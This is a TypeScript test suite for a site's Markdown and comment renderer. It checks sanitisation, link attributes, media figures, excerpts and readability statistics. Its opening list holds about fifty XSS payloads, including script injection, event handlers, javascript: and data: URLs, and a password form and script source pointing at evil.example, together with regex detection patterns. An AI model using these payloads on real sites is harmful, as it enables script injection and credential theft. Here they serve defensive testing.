import {
  deriveExcerpt,
  type MediaImageRendering,
  plainText,
  proseText,
  renderCommentMarkdown,
  renderMarkdown,
} from './markdown';
import { loadTextStats } from './text-stats';

/**
 * Vectors from the usual XSS cheat sheets, as an author could type them into Markdown: raw HTML,
 * Markdown links and images, encodings, broken markup. None may leave anything that runs.
 */
const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="a">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](x" onerror="alert(1))',
  '[x](https://example.com" onclick="alert(1))',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="https://example.com" target="_blank" onmouseover="alert(1)">x</a>',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="//evil.example">protocol-relative</a>',
];

/**
 * What must never appear in the markup of rendered HTML (its tags and attributes). A refused
 * Markdown link stays as inert text — `[x](javascript:alert(1))` escaped inside a <p> — which is
 * why text is not searched.
 */
const FORBIDDEN = [
  /<script/i,
  /<\/?(iframe|object|embed|svg|math|style|link|meta|base|form|input|button|textarea|video|audio|source|marquee|body)\b/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /\sstyle\s*=/i,
  /\ssrcset\s*=/i,
  /\sbackground\s*=/i,
  /\starget\s*=/i,
  /href="\/\//i,
];

describe('renderMarkdown', () => {
  it(`strips every one of ${XSS_VECTORS.length} XSS vectors`, () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(40);
    const survivors = XSS_VECTORS.flatMap((vector) => {
      const html = renderMarkdown(`Before\n\n${vector}\n\nAfter`);
      const markup = (html.match(/<[^>]*>/g) ?? []).join(' ');
      const hit = FORBIDDEN.find((pattern) => pattern.test(markup));
      return hit ? [`${vector}\n  → ${html}\n  (matches ${hit})`] : [];
    });
    expect(survivors).toEqual([]);
  });

  it('keeps what authors write: headings, emphasis, lists, code with its language, tables, quotes, images with alt', () => {
    const html = renderMarkdown(
      [
        '## Section',
        'Some *emphasis*, **strength** and `code`.',
        '- one\n- two',
        '```ts\nconst a = 1;\n```',
        '| a | b |\n|---|---|\n| 1 | 2 |',
        '> quoted',
        '![A lighthouse at dusk](https://example.com/l.png "Lighthouse")',
      ].join('\n\n'),
    );
    expect(html).toContain('<h2>Section</h2>');
    expect(html).toContain('<em>emphasis</em>');
    expect(html).toContain('<strong>strength</strong>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<code class="language-ts">');
    expect(html).toContain('<td>2</td>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<img src="https://example.com/l.png" alt="A lighthouse at dusk" title="Lighthouse" />');
  });

  it('marks external links nofollow ugc for members, only noopener for staff, and leaves site links alone', () => {
    const source = '[out](https://example.com/x) [home](/u/ada) [top](#top) [mail](mailto:a@example.com)';
    const member = renderMarkdown(source);
    expect(member).toContain('<a href="https://example.com/x" rel="noopener nofollow ugc">out</a>');
    expect(member).toContain('<a href="/u/ada">home</a>');
    expect(member).toContain('<a href="#top">top</a>');
    expect(member).toContain('<a href="mailto:a@example.com">mail</a>');
    expect(renderMarkdown(source, { staff: true })).toContain('<a href="https://example.com/x" rel="noopener">out</a>');
    // A rel written by the author is replaced, never trusted.
    expect(renderMarkdown('<a href="https://example.com" rel="dofollow">x</a>')).toContain(
      'rel="noopener nofollow ugc"',
    );
  });
});

describe('renderMarkdown with images of the media library', () => {
  const ID = '0190a0b0-c0d0-7e0f-8a0b-0c0d0e0f1a2b';
  const image = (fields: Partial<MediaImageRendering> = {}): ReadonlyMap<string, MediaImageRendering> =>
    new Map([
      [
        ID,
        {
          src: '/api/v1/media/files/m-960.webp',
          srcset: '/api/v1/media/files/m-480.webp 480w, /api/v1/media/files/m-960.webp 960w',
          width: 960,
          height: 640,
          alt: 'A harbour at dawn',
          caption: 'Boats <leaving> at 6 & "early"',
          ...fields,
        },
      ],
    ]);

  it('shows a captioned image alone in its paragraph as a figure with its caption escaped, with no <p> around it', () => {
    const html = renderMarkdown(`Before.\n\n![boats](media:${ID})\n\nAfter.`, { media: image() });
    expect(html).toMatch(
      /<p>Before\.<\/p>\s*<figure><img src="\/api\/v1\/media\/files\/m-960\.webp" [^>]*alt="A harbour at dawn"[^>]*\/?><figcaption>Boats &lt;leaving&gt; at 6 &amp; "early"<\/figcaption><\/figure>\s*<p>After\.<\/p>/,
    );
    expect(html).not.toMatch(/<p>\s*<figure|<\/figure>\s*<\/p>/);
  });

  it('leaves an image without a caption, and one within a line of text, a plain <img> (no figure)', () => {
    const uncaptioned = renderMarkdown(`![boats](media:${ID})`, { media: image({ caption: null }) });
    expect(uncaptioned).toMatch(/^<p><img [^>]*alt="A harbour at dawn"[^>]*\/?><\/p>$/);
    const inline = renderMarkdown(`See ![boats](media:${ID}) here.`, { media: image() });
    expect(inline).toMatch(/^<p>See <img [^>]*\/?> here\.<\/p>$/);
    expect(inline).not.toContain('figcaption');
    // An image outside the library has no caption to show.
    expect(renderMarkdown('![boats](https://example.com/b.png)', { media: image() })).not.toContain('figure');
  });

  it('keeps a figure in a tight list item without an invalid paragraph', () => {
    const html = renderMarkdown(`- ![boats](media:${ID})\n- text`, { media: image() });
    expect(html).toMatch(
      /<li><figure><img [^>]*\/?><figcaption>Boats &lt;leaving&gt; at 6 &amp; "early"<\/figcaption><\/figure>\s*<\/li>/,
    );
  });

  it("leaves captions out of a post's text with captions: false (excerpt, reading time), keeps them otherwise", () => {
    const html = renderMarkdown(`![boats](media:${ID})\n\nThe post starts here.`, { media: image() });
    expect(plainText(html, { captions: false })).toBe('The post starts here.');
    expect(plainText(html)).toBe('Boats <leaving> at 6 & "early" The post starts here.');
  });
});

describe('renderCommentMarkdown', () => {
  it(`strips every one of ${XSS_VECTORS.length} XSS vectors from comments too`, () => {
    const survivors = XSS_VECTORS.flatMap((vector) => {
      const html = renderCommentMarkdown(`Before\n\n${vector}\n\nAfter`);
      const markup = (html.match(/<[^>]*>/g) ?? []).join(' ');
      const hit = FORBIDDEN.find((pattern) => pattern.test(markup));
      return hit ? [`${vector}\n  → ${html}\n  (matches ${hit})`] : [];
    });
    expect(survivors).toEqual([]);
  });

  it('keeps the comment subset (emphasis, lists, quotes, code, links) and drops headings, images and tables', () => {
    const html = renderCommentMarkdown(
      '# Shout\n\n**bold** and *soft*\n\n> quoted\n\n- one\n\n`code` [a link](https://example.com) ![pic](https://example.com/a.png)\n\n| a |\n|---|\n| b |',
    );
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<em>soft</em>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<a href="https://example.com" rel="noopener nofollow ugc">a link</a>');
    expect(html).not.toMatch(/<(h1|img|table)/);
    expect(html).toContain('Shout');
  });
});

describe('plainText and deriveExcerpt', () => {
  it('gives the text of the HTML with blocks apart and entities decoded', () => {
    expect(plainText(renderMarkdown('# Title\n\nFish & chips <3\n\n- a\n- b'))).toBe('Title Fish & chips <3 a b');
  });

  it('cuts at a word boundary with an ellipsis, within the limit', () => {
    const text = 'word '.repeat(100).trim();
    const excerpt = deriveExcerpt(text, 50);
    expect(excerpt.length).toBeLessThanOrEqual(50);
    expect(excerpt).toMatch(/^word( word)*…$/);
    expect(deriveExcerpt('short text', 50)).toBe('short text');
  });

  it('excerpts come from the prose: headings and code do not run into the sentences', () => {
    const html = renderMarkdown(
      '## The lamp\n\nA paraffin burner.\n\n```\nrotate()\n```\n\n### Why\n\nThe horn sounded.',
    );
    expect(proseText(html)).toBe('A paraffin burner. The horn sounded.');
    expect(plainText(html)).toBe('The lamp A paraffin burner. rotate() Why The horn sounded.');
    const list = renderMarkdown(
      '- First order lens\n- Clockwork rotation, wound by hand\n\nSee [it](https://x.test) now!',
    );
    expect(proseText(list)).toBe('First order lens. Clockwork rotation, wound by hand. See it now!');
    // A body of headings only still has a text.
    expect(proseText(renderMarkdown('# Only a title'))).toBe('');
  });
});

describe('text statistics', () => {
  it('rates a simple text at a low grade and a dense one at a high grade; reading time from the word count', async () => {
    const stats = await loadTextStats();
    const simple = stats('The cat sat on the mat. The dog ran to the park. We had fun in the sun.');
    const dense = stats(
      'Notwithstanding considerable methodological heterogeneity, contemporary epidemiological investigations ' +
        'consistently demonstrate statistically significant associations between socioeconomic deprivation ' +
        'and cardiovascular morbidity.',
    );
    expect(simple.readingLevel).not.toBeNull();
    expect(dense.readingLevel).not.toBeNull();
    expect(simple.readingLevel!).toBeLessThan(4);
    expect(dense.readingLevel!).toBeGreaterThan(14);
    expect(simple.readingTimeMinutes).toBe(1);
    expect(stats('word '.repeat(1000)).readingTimeMinutes).toBe(5);
    expect(stats('')).toEqual({ words: 0, readingTimeMinutes: 1, readingLevel: null });
  });
});
